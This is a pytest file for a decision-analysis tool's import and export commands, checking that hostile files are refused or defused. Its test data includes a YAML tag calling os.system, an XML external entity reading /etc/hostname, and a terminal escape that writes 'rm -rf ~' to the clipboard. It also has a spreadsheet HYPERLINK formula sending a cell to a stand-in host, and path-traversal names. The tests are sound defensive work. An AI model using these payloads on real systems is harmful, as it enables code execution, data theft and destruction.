"""Odd and hostile files and texts from elsewhere, on their way in and out: refused by name, or kept as they are."""

import csv
import io
import json

import pytest
from imports import SAMPLES
from openpyxl import Workbook, load_workbook
from panels import compare, rate, write

from criteria.files import read_panel
from tui.commands.group import run

MAPPING = "coding: ratio\ncriteria: [{id: cost}, {id: risk}]\npanellist: expert\n"


@pytest.fixture
def refused(tmp_path, capsys):
    """What the import of a file says, which must refuse it and write nothing."""

    def said(format, name, content, more=None):
        path = tmp_path / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        for beside, text in (more or {}).items():
            (tmp_path / beside).write_text(text, encoding="utf-8")
        assert (
            run(["import", format, str(path), str(tmp_path / "panel"), *(["--yes"] if format == "survey" else [])]) == 1
        )
        printed = capsys.readouterr()
        assert not (tmp_path / "panel").exists()
        assert printed.out == ""
        assert "Traceback" not in printed.err
        assert "\x1b" not in printed.err
        return printed.err

    return said


@pytest.mark.parametrize(
    ("content", "must_name"),
    [
        pytest.param("expert,cost_risk,cost_risk\nE1,3,7\n", ["cost_risk", ":1:"], id="duplicate header"),
        pytest.param("expert,cost_risk\nE1\n", ["nobody answered"], id="row too short"),
        pytest.param(b"expert,cost_risk\nE1,3\0\n", [":2:"], id="NUL byte"),
        pytest.param('expert,"cost,\nlife cycle_risk"\nE1,3\n', [":1:"], id="line end in a name"),
        pytest.param("", ["empty"], id="empty file"),
        pytest.param("expert,cost_risk\n", ["no"], id="header only"),
        pytest.param("expert,cost_risk\nE1,inf\n", [":2:2", "inf"], id="inf"),
        pytest.param("expert,cost_risk\nE1,1e400\n", [":2:2", "1e400"], id="infinite"),
        pytest.param("expert,cost_risk\nE1,true\n", [":2:2", "true"], id="boolean"),
        pytest.param("expert,cost_risk\nE1,strong\n", [":2:2", "strong"], id="word"),
        pytest.param("expert,cost_risk\nE1,-3\n", [":2:2", "-3"], id="negative"),
        pytest.param("expert,cost_risk\nE1,10\n", [":2:2", "10"], id="off the scale"),
    ],
)
def test_an_odd_survey_is_refused_by_its_place(refused, content, must_name):
    said = refused("survey", "s.csv", content, {"s.csv.mapping.yaml": MAPPING})
    for name in must_name:
        assert name in said


@pytest.mark.parametrize(
    ("name", "must_name"),
    [
        pytest.param("cost\x1b]0;pwned\x07\x1b[2J", "\\x1b", id="window title and clear screen"),
        pytest.param("cost\u202egnp.exe", "U+202E", id="right-to-left override"),
        pytest.param("co\u200bst", "U+200B", id="zero-width space"),
        pytest.param("x" * 10_000, "10000", id="10,000 characters"),
        pytest.param("👨\u200d👩\u200d👧", "U+200D", id="emoji family"),
        pytest.param("cost,\nlife cycle", ":1:2", id="line end"),
        pytest.param("   ", ":1:2", id="only spaces"),
    ],
)
def test_names_that_could_deceive_are_refused(refused, name, must_name):
    written = io.StringIO()
    csv.writer(written).writerows([["", name, "b"], ["type", "max", "min"], ["weight", 1, 2], ["x", 3, 4], ["y", 1, 2]])
    assert must_name in refused("decision-matrix", "m.csv", written.getvalue())


def test_a_byte_order_mark_and_semicolons_are_read(tmp_path):
    path = tmp_path / "s.csv"
    path.write_bytes(b"\xef\xbb\xbfexpert;cost_risk\nE1;3\n")
    (tmp_path / "s.csv.mapping.yaml").write_text(MAPPING, encoding="utf-8")
    assert run(["import", "survey", str(path), str(tmp_path / "panel"), "--yes"]) == 0
    (judgement,) = read_panel(tmp_path / "panel").judgements
    assert (judgement.panellist, judgement.first, judgement.second, judgement.ratio) == ("E1", "cost", "risk", 3)


@pytest.mark.parametrize(
    ("text", "must_name"),
    [
        pytest.param("coding: ratio\ncoding: signed\n", ["coding", ":2:"], id="duplicate key"),
        pytest.param("coding: ratio\n---\ncoding: signed\n", [":2:"], id="two documents"),
        pytest.param("coding:\n\tlow: first\n", [":2:", "tab"], id="tab indentation"),
        pytest.param('!!python/object/apply:os.system ["touch PWNED"]\n', [":1:"], id="python object tag"),
        pytest.param("[" * 10_000 + "]" * 10_000, ["levels"], id="10,000 levels"),
        pytest.param("coding: &a ratio\nlow: *a\n", ["aliases"], id="alias"),
    ],
)
def test_an_odd_mapping_is_refused_by_its_place(refused, tmp_path, monkeypatch, text, must_name):
    monkeypatch.chdir(tmp_path)
    said = refused("survey", "s.csv", "expert,cost_risk\nE1,3\n", {"s.csv.mapping.yaml": text})
    for name in must_name:
        assert name in said
    assert not (tmp_path / "PWNED").exists()


def test_no_number_in_a_survey_is_no_answer_and_is_counted(tmp_path, capsys):
    path = tmp_path / "s.csv"
    path.write_text("expert,cost_risk\nE1,3\nE2,NaN\nE3,NA\nE4,1/2\n", encoding="utf-8")
    (tmp_path / "s.csv.mapping.yaml").write_text(MAPPING, encoding="utf-8")
    assert run(["import", "survey", str(path), str(tmp_path / "panel"), "--yes"]) == 0
    assert capsys.readouterr().err.count("left out: line") == 2
    assert [judgement.ratio for judgement in read_panel(tmp_path / "panel").judgements] == [3, 0.5]


def test_numbers_that_json_takes_and_should_not_are_refused(refused):
    good = (SAMPLES / "project.json").read_text(encoding="utf-8")
    for wrong in ("NaN", "1e400", "-Infinity"):
        changed = good.replace("{", f'{{"x": {wrong}, ', 1)
        assert wrong in refused("ahp-os-json", "p.json", changed)
    twice = good.replace("{", '{"pj": [], ', 1)
    assert "pj" in refused("ahp-os-json", "p.json", twice)


def test_a_date_and_a_formula_without_a_value_in_a_workbook_are_named_by_their_cell(refused):
    from datetime import date

    for value, said in ((date(2026, 3, 1), "1/3"), ("=1/3", "formula")):
        book = Workbook()
        book.active.append(["", "a", "b"])
        book.active.append(["a", 1, value])
        book.active.append(["b", "", 1])
        written = io.BytesIO()
        book.save(written)
        found = refused("matrices", "m.xlsx", written.getvalue())
        assert "C2" in found
        assert said in found


def test_an_external_entity_is_refused(refused):
    text = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><xmcda><c>&e;</c></xmcda>'
    assert "entities" in refused("xmcda", "x.xml", text)


@pytest.mark.parametrize(
    "name", ["../../x", "CON", "nul.csv", "E1.", "-rf", "a/b", "a\\b", "=cmd()", "x" * 190, "1", "é"]
)
def test_an_odd_name_of_a_respondent_becomes_a_sound_id(name, tmp_path):
    """Ids are made, never joined: what stood in the file stays in the name alone."""
    path = tmp_path / "s.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["expert", "cost_risk"], [name, "3"], ["other", "2"]])
    (tmp_path / "s.csv.mapping.yaml").write_text(MAPPING, encoding="utf-8")
    before = {item.name for item in tmp_path.iterdir()}
    assert run(["import", "survey", str(path), str(tmp_path / "panel"), "--yes"]) == 0
    panel = read_panel(tmp_path / "panel")
    assert len(panel.panellists) == 2
    assert run(["check", str(tmp_path / "panel")]) == 0
    assert {item.name for item in tmp_path.iterdir()} == before | {"panel"}


FORMULA = '=HYPERLINK("http://x/?"&A1,"cost")'
NAMES = [FORMULA, "[bold red]cost[/]", "[@click=app.quit]cost[/]", "a" + "\u0301" * 50, "cost [/foo]"]
COMMENT = "\x1b]52;c;cm0gLXJmIH4=\x07 \x9b2J"


@pytest.fixture
def odd(tmp_path):
    """Six panellists over criteria and solutions with odd names, a comment that would write to the clipboard."""
    people = [f"P{n}" for n in range(6)]
    judgements = [compare(who, "goal", "c0 c1 c2 c3 c4", " ".join("2222222222")) for who in people]
    rows = {f"s{n}": " ".join(str((n * m) % 7 + 1) for m in range(5)) for n in range(5)}
    folder = write(
        tmp_path / "odd",
        criteria=[{"id": f"c{n}", "name": name} for n, name in enumerate(NAMES)],
        solutions=[{"id": f"s{n}", "name": name} for n, name in enumerate(NAMES)],
        panellists=[{"id": who, "organisation": FORMULA} for who in people],
        judgements=judgements,
        ratings=[rate(who, "c0 c1 c2 c3 c4", rows) for who in people],
    )
    lines = (folder / "judgements.csv").read_text(encoding="utf-8").splitlines()
    with (folder / "judgements.csv").open("w", encoding="utf-8") as file:
        file.write(
            "\n".join([lines[0] + ",comment", lines[1] + "," + COMMENT, *(line + "," for line in lines[2:])]) + "\n"
        )
    return folder


def test_what_is_odd_reaches_no_terminal_by_any_command_that_hands_on(odd, capsys):
    assert read_panel(odd).judgements[0].comment == COMMENT
    commands = [
        *(["export", what] for what in ("judgements", "dmsy", "xmcda", "ahp-os", "latex")),
        *(["export", "judgements", "--format", form] for form in ("table", "json")),
        ["report", "--draws", "20"],
        ["trace", "s1", "--format", "table"],
        ["trace", "s1", "--names", "--format", "csv"],
        ["audit", "--format", "table"],
    ]
    for command, *more in commands:
        assert run([command, str(odd), *more]) == 0
        printed = capsys.readouterr()
        assert not set("\x1b\x07\x9b") & set(printed.out + printed.err), (command, more)


def test_a_formula_as_a_name_leaves_defused_and_comes_back_as_it_was(odd, tmp_path):
    into = tmp_path / "all"
    assert run(["export", str(odd), "all", "-o", str(into), "-q"]) == 0
    with (into / "weights.csv").open(encoding="utf-8") as file:
        assert {row["name"] for row in csv.DictReader(file)} >= {"'" + FORMULA, *NAMES[1:3]}
    assert run(["export", str(odd), "workbook", "-o", str(tmp_path / "w.xlsx"), "-q"]) == 0
    for sheet in load_workbook(tmp_path / "w.xlsx"):
        assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    assert run(["export", str(odd), "xmcda", "-o", str(tmp_path / "t.xml"), "-q"]) == 0
    assert run(["import", "xmcda", str(tmp_path / "t.xml"), str(tmp_path / "again")]) == 0
    again = read_panel(tmp_path / "again")
    assert [criterion.name for criterion in again.hierarchy] == [
        criterion.name for criterion in read_panel(odd).hierarchy
    ]


def test_two_hundred_criteria_leave_and_come_back_at_once(tmp_path):
    ids = [f"c{n}" for n in range(200)]
    folder = write(
        tmp_path / "p",
        criteria=[{"id": id, "weight": 0.005} for id in ids],
        solutions="x y",
        performance={name: {id: (n * k) % 11 + 1 for n, id in enumerate(ids)} for k, name in ((3, "x"), (7, "y"))},
    )
    for form, name in (("dmsy", "t.dmsy"), ("xmcda", "t.xml")):
        assert run(["export", str(folder), form, "-o", str(tmp_path / name), "-q"]) == 0
        assert run(["import", form, str(tmp_path / name), str(tmp_path / form)]) == 0
        assert len(tuple(read_panel(tmp_path / form).hierarchy)) == 200
    assert json.loads((tmp_path / "t.xml.meta.json").read_text())["options"]["method"] == "topsis"
